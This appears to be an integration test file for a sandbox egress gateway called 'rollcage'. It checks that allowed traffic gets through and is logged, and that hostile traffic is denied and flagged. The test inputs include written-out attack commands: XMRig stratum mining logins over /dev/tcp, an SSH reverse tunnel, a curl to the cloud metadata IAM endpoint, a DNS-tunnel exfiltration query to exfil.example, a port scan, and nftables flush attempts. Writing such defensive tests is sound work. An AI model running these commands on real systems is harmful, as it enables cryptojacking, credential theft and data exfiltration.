"""The egress gateway end to end: real sandboxes, real nftables and veths, the simulated internet.

Everything runs inside namespaces the tests create (the gateway inside an offline outer
namespace, upstreams inside the simulated internet), so nothing can leave this machine.
"""

from __future__ import annotations

import os
import resource
import signal
import time
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from rollcage import Sandbox, SandboxConfig
from rollcage.errors import ConfigError
from rollcage.gateway.client import Gateway
from rollcage.testing import SimulatedInternet

from .conftest import OFFLINE_NETNS


class Recorder:
    """An event sink that keeps events as dicts, for assertions."""

    def __init__(self) -> None:
        self.events: list[dict[str, Any]] = []

    def emit(self, event: Any) -> None:
        self.events.append(event.to_dict())

    def of(self, type_: str, **match: Any) -> list[dict[str, Any]]:
        return [e for e in self.events if e["type"] == type_ and all(e.get(k) == v for k, v in match.items())]

    def wait(self, predicate: Callable[[dict[str, Any]], bool], timeout: float = 5.0) -> dict[str, Any]:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            for event in list(self.events):
                if predicate(event):
                    return event
            time.sleep(0.02)
        raise AssertionError(f"no matching event within {timeout}s; got {[e['type'] for e in self.events]}")


@pytest.fixture
def recorder() -> Recorder:
    return Recorder()


@pytest.fixture
def netbox(gateway: Gateway, recorder: Recorder) -> Iterator[Sandbox]:
    """A sandbox that may reach pypi.org (and its files host) and nothing else."""
    config = SandboxConfig(network=["pypi.org", "files.pythonhosted.org"], timeout=30)
    with Sandbox(config, gateway=gateway, events=recorder, run_id="run-1", episode_id="ep-1") as sb:
        yield sb


def test_allowed_domain_is_reachable_and_recorded(netbox: Sandbox, recorder: Recorder) -> None:
    r = netbox.run("curl -sS -m 10 http://pypi.org/simple/", step=3)
    assert r.exit_code == 0, r.output
    assert "rcsim-hello" in r.output
    dns = recorder.wait(lambda e: e["type"] == "dns" and e["qname"] == "pypi.org" and e["qtype"] == "A")
    assert dns["decision"] == "allow" and dns["answer"] == ["198.51.100.20"]
    closed = recorder.wait(lambda e: e["type"] == "flow" and e.get("phase") == "closed")
    assert closed["decision"] == "allow"
    assert closed["dst_ip"] == "198.51.100.20" and closed["dst_port"] == 80
    assert closed["domain"] == "pypi.org" and closed["protocol"] == "http"
    assert closed["bytes_in"] > len("rcsim-hello") and closed["bytes_out"] > 0
    assert closed["cmdline"].startswith("curl ") and closed["pid"] > 0
    assert (closed["step"], closed["run_id"], closed["episode_id"]) == (3, "run-1", "ep-1")
    assert closed["sandbox_id"] == netbox.id


def test_tls_is_decided_on_sni_without_interception(netbox: Sandbox, internet: SimulatedInternet) -> None:
    assert internet.index.ca_cert_path is not None
    netbox.write_file("/tmp/ca.pem", internet.index.ca_cert_path.read_bytes())
    r = netbox.run("curl -sS -m 10 --cacert /tmp/ca.pem https://pypi.org/simple/")
    assert r.exit_code == 0, r.output  # the upstream's own certificate verified: no interception
    assert "rcsim-hello" in r.output


def test_sni_naming_an_allowed_domain_does_not_open_other_addresses(netbox: Sandbox, recorder: Recorder) -> None:
    # TLS to the mining pool's address, claiming to be pypi.org: the name never resolved there.
    r = netbox.run("curl -sS -m 5 -k --resolve pypi.org:443:203.0.113.10 https://pypi.org/")
    assert r.exit_code != 0
    flow = recorder.wait(lambda e: e["type"] == "flow" and e["dst_ip"] == "203.0.113.10")
    assert flow["decision"] == "deny" and flow["protocol"] == "tls" and flow["domain"] == "pypi.org"
    assert "does not resolve" in flow["reason"]


def test_denied_stratum_never_reaches_the_pool(
    netbox: Sandbox, recorder: Recorder, internet: SimulatedInternet
) -> None:
    before = internet.pool.connections
    # the subscribe arrives in two pieces, half a second apart, on a port no pool uses
    script = (
        '(exec 3<>/dev/tcp/198.51.100.20/8081 || exit 9; printf \'{"id":1,"meth\' >&3; sleep 0.3; '
        'printf \'od":"mining.subscribe","params":["xmrig/6"]}\\n\' >&3; timeout 3 cat <&3; echo rc=$?)'
    )
    netbox.run(script)
    login = '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4Wallet","pass":"x","agent":"XMRig/6.21"}}'
    netbox.run(f"(exec 3<>/dev/tcp/203.0.113.10/3333 && echo '{login}' >&3; timeout 3 cat <&3)")
    first = recorder.wait(lambda e: e["type"] == "flow" and e["dst_port"] == 8081)
    assert first["decision"] == "deny" and first["protocol"] == "stratum"
    assert "stratum" in first["indicators"]
    pool = recorder.wait(lambda e: e["type"] == "flow" and e["dst_port"] == 3333)
    assert pool["decision"] == "deny" and {"stratum", "mining_port"} <= set(pool["indicators"])
    assert internet.pool.connections == before  # not one byte, not even a handshake upstream


def test_outbound_ssh_internal_and_metadata_destinations_are_flagged(netbox: Sandbox, recorder: Recorder) -> None:
    netbox.run("ssh -o BatchMode=yes -o ConnectTimeout=5 -o StrictHostKeyChecking=no -R 9000:localhost:22 "
               "tunnel@192.0.2.22 true")  # fmt: skip
    ssh = recorder.wait(lambda e: e["type"] == "flow" and e["dst_port"] == 22)
    assert ssh["decision"] == "deny" and ssh["protocol"] == "ssh" and "outbound_ssh" in ssh["indicators"]
    assert ssh["cmdline"].startswith("ssh ")
    netbox.run("curl -s -m 5 http://169.254.169.254/latest/meta-data/iam/")
    meta = recorder.wait(lambda e: e["type"] == "flow" and e["dst_ip"] == "169.254.169.254")
    assert meta["decision"] == "deny" and "metadata" in meta["indicators"] and "internal" in meta["indicators"]
    netbox.run("curl -s -m 5 http://10.0.0.5/")
    wiki = recorder.wait(lambda e: e["type"] == "flow" and e["dst_ip"] == "10.0.0.5")
    assert "private" in wiki["tags"] and wiki["decision"] == "deny"


def test_allowed_ssh_reaches_the_real_sshd(gateway: Gateway, recorder: Recorder) -> None:
    config = SandboxConfig(network=["192.0.2.22:22"])
    with Sandbox(config, gateway=gateway, events=recorder) as sb:
        r = sb.run("ssh -o BatchMode=yes -o ConnectTimeout=5 -o StrictHostKeyChecking=no "
                   "-o UserKnownHostsFile=/dev/null nobody@192.0.2.22 true", timeout=20)  # fmt: skip
    assert "Permission denied" in r.output, r.output  # the real sshd answered and refused the key-less login
    flow = recorder.wait(lambda e: e["type"] == "flow" and e.get("phase") == "closed")
    assert flow["decision"] == "allow" and "outbound_ssh" in flow["indicators"]
    assert flow["details"]["banner"].startswith("SSH-2.0-OpenSSH")


def test_dns_answers_only_allowed_names_and_logs_every_query(netbox: Sandbox, recorder: Recorder) -> None:
    r = netbox.run("getent hosts files.pythonhosted.org; getent hosts pool.supportxmr.com; echo rc=$?")
    assert "198.51.100.20" in r.output and "rc=2" in r.output  # the pool's name does not resolve
    pool = recorder.wait(lambda e: e["type"] == "dns" and e["qname"] == "pool.supportxmr.com")
    assert pool["decision"] == "deny" and pool["answer"] == [] and "mining_domain" in pool["indicators"]
    assert pool["cmdline"] == "getent hosts pool.supportxmr.com"
    label = "a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d2e3f4a5b6c7d8"
    netbox.run(f"getent hosts {label}.exfil.example")
    tunnel = recorder.wait(lambda e: e["type"] == "dns" and e["qname"].startswith(label))
    assert "dns_tunnel" in tunnel["indicators"] and tunnel["decision"] == "deny"
    # a resolver the sandbox names itself is intercepted all the same
    netbox.run("getent hosts pypi.org >/dev/null; exec 3<>/dev/udp/198.51.100.53/53; printf x >&3")
    assert recorder.of("dns", decision="allow")


def test_other_traffic_is_dropped_and_counted(netbox: Sandbox, recorder: Recorder) -> None:
    r = netbox.run("for i in 1 2 3; do printf x > /dev/udp/203.0.113.10/9999; done; echo sent")
    assert "sent" in r.output
    drop = recorder.wait(lambda e: e["type"] == "net_drop" and e["protocol"] == "udp", timeout=8)
    assert drop["count"] >= 3 and drop["sandbox_id"] == netbox.id


def test_sandbox_cannot_reconfigure_its_network(netbox: Sandbox) -> None:
    for command in ("ip route del default", "ip addr add 10.99.0.2/24 dev eth0", "ip link set eth0 down",
                    "nft flush ruleset"):  # fmt: skip
        assert netbox.run(command).exit_code != 0, command
    assert netbox.run("curl -sS -m 10 -o /dev/null -w '%{http_code}' http://pypi.org/simple/").output == "200"


def test_a_scan_is_flagged(netbox: Sandbox, recorder: Recorder) -> None:
    netbox.run("for p in $(seq 1 30); do (exec 3<>/dev/tcp/10.0.0.6/$p) 2>/dev/null; done; true")
    scan = recorder.wait(lambda e: e["type"] == "flow" and "scan" in e["indicators"], timeout=15)
    assert scan["scan"]["sweep"] == "port_scan"


def test_background_process_is_attributed_to_the_step_that_started_it(netbox: Sandbox, recorder: Recorder) -> None:
    netbox.run("nohup bash -c 'sleep 1.5; exec 3<>/dev/tcp/203.0.113.10/4444; echo hi >&3; cat <&3' >/dev/null 2>&1 &",
               step=2)  # fmt: skip
    netbox.run("echo doing other work", step=3)
    netbox.run("sleep 2.5", step=4)
    flow = recorder.wait(lambda e: e["type"] == "flow" and e["dst_port"] == 4444)
    assert flow["step"] == 2
    assert flow["cmdline"].startswith("bash -c sleep 1.5")


def test_empty_policy_denies_everything(gateway: Gateway, recorder: Recorder) -> None:
    with Sandbox(SandboxConfig(network=[]), gateway=gateway, events=recorder) as sb:
        assert sb.run("curl -sS -m 5 http://198.51.100.20/").exit_code != 0
        assert sb.run("getent hosts pypi.org").exit_code != 0
    assert recorder.wait(lambda e: e["type"] == "flow")["decision"] == "deny"


ECHO_CLIENT = r"""
import hashlib, random, socket, sys, threading
size = int(sys.argv[1])
payload = random.Random(size).randbytes(size)
s = socket.create_connection(("198.51.100.20", 7), timeout=20)
def send():
    s.sendall(payload)
    s.shutdown(socket.SHUT_WR)
sender = threading.Thread(target=send)
sender.start()
got = bytearray()
while chunk := s.recv(1 << 16):
    got += chunk
sender.join()
print(size, len(got), hashlib.sha256(payload).hexdigest() == hashlib.sha256(got).hexdigest())
"""


def test_relay_passes_every_byte_in_order_and_the_half_close(gateway: Gateway, recorder: Recorder) -> None:
    """A few bytes (copied) and 3 MB (spliced after the first chunk) come back from the echo
    server intact, which also needs the client's EOF passed upstream; the flows count them."""
    with Sandbox(SandboxConfig(network=["198.51.100.20:7"]), gateway=gateway, events=recorder) as sb:
        sb.write_file("/work/echo.py", ECHO_CLIENT)
        for size in (100, 3_000_000):
            r = sb.run(f"python3 /work/echo.py {size}", timeout=60)
            assert r.output.split() == [str(size), str(size), "True"], r.output
            closed = recorder.wait(lambda e, n=size: e["type"] == "flow" and e.get("phase") == "closed"
                                   and e["bytes_out"] == n, timeout=10)  # fmt: skip
            assert closed["bytes_in"] == size and "error" not in closed


def test_each_connection_is_attributed_to_the_process_that_made_it(gateway: Gateway, recorder: Recorder) -> None:
    """40 connections from one looping process, then one from another: the gateway's
    repeat-owner shortcut must not hand the next process's flow to the first."""
    loop = (
        "import socket\nfor _ in range(40):\n"
        "    with socket.create_connection(('198.51.100.20', 7), timeout=5) as s:\n"
        "        s.sendall(b'x'); s.recv(1)\n"
    )
    with Sandbox(SandboxConfig(network=["198.51.100.20:7"]), gateway=gateway, events=recorder) as sb:
        sb.write_file("/work/loop.py", loop)
        sb.write_file("/work/once.py", loop.replace("range(40)", "range(1)"))
        assert sb.run("python3 /work/loop.py && python3 /work/once.py").exit_code == 0
        assert sb.run("cat /proc/sys/net/ipv4/tcp_tw_reuse").output.strip() == "1"  # no slowdown on TIME_WAIT
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline and len(recorder.of("flow", phase="closed")) < 41:
        time.sleep(0.05)
    flows = recorder.of("flow", phase="closed")
    pids: dict[str, set[int]] = {}
    for flow in flows:  # closing order may interleave; who owns what may not
        pids.setdefault(flow["cmdline"], set()).add(flow["pid"])
    assert sorted(f["cmdline"] for f in flows) == ["python3 /work/loop.py"] * 40 + ["python3 /work/once.py"]
    assert len(pids["python3 /work/loop.py"]) == 1 and pids["python3 /work/loop.py"] != pids["python3 /work/once.py"]


HOLD_CLIENT = r"""
import socket, time
def echo(s):
    try:
        s.sendall(b"x")
        return s.recv(1) == b"x"
    except OSError:
        return False
held, answered = [], 0
for _ in range(30):
    try:
        s = socket.create_connection(("198.51.100.20", 7), timeout=3)
    except OSError:
        continue
    s.settimeout(0.5)
    answered += echo(s)
    held.append(s)
for s in held:
    s.close()
time.sleep(0.5)
fresh = 0
for _ in range(5):
    with socket.create_connection(("198.51.100.20", 7), timeout=5) as s:
        s.settimeout(5)
        fresh += echo(s)
print(answered, fresh)
"""


def test_gateway_out_of_descriptors_keeps_serving_once_they_free_up(internet: SimulatedInternet) -> None:
    """A sandbox that holds more connections than the gateway has descriptors for stalls only
    the ones over the limit; when it lets go, new connections work again."""
    with (
        Gateway(internet.connector_spec(), outer_netns=OFFLINE_NETNS) as gw,
        Sandbox(SandboxConfig(network=["198.51.100.20:7"]), gateway=gw, events=Recorder()) as sb,
    ):
        sb.write_file("/work/hold.py", HOLD_CLIENT)
        assert sb.run("python3 /work/hold.py", timeout=60).output.split() == ["30", "5"]  # with descriptors to spare
        limit = len(os.listdir(f"/proc/{gw.pid}/fd")) + 20
        hard = resource.prlimit(gw.pid, resource.RLIMIT_NOFILE)[1]
        resource.prlimit(gw.pid, resource.RLIMIT_NOFILE, (limit, hard))
        answered, fresh = map(int, sb.run("python3 /work/hold.py", timeout=60).output.split())
        assert 0 < answered < 30  # some got through, the rest waited in the accept queue
        assert fresh == 5
        assert gw.alive


def test_bad_policy_entries_are_rejected_before_anything_starts() -> None:
    from rollcage.config import build_config

    with pytest.raises(ConfigError, match="network"):
        build_config(network=["not a host!"])


def test_gateway_death_stops_its_sandboxes_and_no_connection_gets_through(
    internet: SimulatedInternet, recorder: Recorder
) -> None:
    with Gateway(internet.connector_spec(), outer_netns=OFFLINE_NETNS) as gw:
        sb = Sandbox(SandboxConfig(network=["pypi.org"]), gateway=gw, events=recorder)
        try:
            assert sb.run("curl -sS -m 5 -o /dev/null http://pypi.org/simple/").exit_code == 0
            sb.run("(while true; do curl -s -m 2 -o /dev/null http://pypi.org/simple/ && echo ok >> /tmp/log; "
                   "done) >/dev/null 2>&1 &")  # fmt: skip
            time.sleep(0.5)
            served = len(internet.index.requests)
            os.kill(gw.pid, signal.SIGKILL)
            killed = time.monotonic()
            deadline = killed + 5
            while not sb.closed and time.monotonic() < deadline:
                time.sleep(0.02)
            assert sb.closed, "sandbox kept running without its gateway"
            assert time.monotonic() - killed < 3
            time.sleep(0.3)
            after = len(internet.index.requests)
            assert after - served <= 1  # at most the request in flight at the kill completes
            assert not sb.pids()
        finally:
            sb.close()
    lost = recorder.of("sandbox", action="network_lost")
    assert lost and "died" in lost[0]["reason"]


def test_cli_allow_records_flows_and_dns_in_the_events_file(internet: SimulatedInternet, tmp_path) -> None:
    """``rollcage sandbox run --allow`` (its gateway pointed at the simulated internet by conftest)."""
    import json
    import subprocess
    import sys

    events = tmp_path / "events.jsonl"
    script = (
        "curl -sS -m 10 http://pypi.org/simple/ >/dev/null && echo allowed; "
        "curl -s -m 5 http://203.0.113.10:3333/ || echo denied"
    )
    r = subprocess.run(
        [sys.executable, "-m", "rollcage.cli.main", "sandbox", "run", "--allow", "pypi.org", "--events", str(events),
         "--", script],
        capture_output=True, text=True, timeout=120,
    )  # fmt: skip
    assert r.returncode == 0, r.stderr
    assert r.stdout.splitlines() == ["allowed", "denied"]
    records = [json.loads(line) for line in events.read_text().splitlines()]
    flows = [e for e in records if e["type"] == "flow"]
    assert {(f["dst_port"], f["decision"]) for f in flows} >= {(80, "allow"), (3333, "deny")}
    assert any(e["type"] == "dns" and e["qname"] == "pypi.org" for e in records)


def test_gc_removes_network_namespaces_of_dead_supervisors() -> None:
    from rollcage.net.netns import create_netns, list_netns
    from rollcage.sandbox.gc import collect

    dead = 4_000_000  # above pid_max: no such process
    create_netns(f"rcgw-{dead}-0")
    create_netns(f"rcgw-{os.getpid()}-999")  # ours, alive: must stay
    try:
        report = collect()
        assert f"rcgw-{dead}-0" in report.network_namespaces
        assert f"rcgw-{dead}-0" not in list_netns()
        assert f"rcgw-{os.getpid()}-999" in list_netns()
    finally:
        from rollcage.net.netns import remove_netns

        remove_netns(f"rcgw-{dead}-0")
        remove_netns(f"rcgw-{os.getpid()}-999")
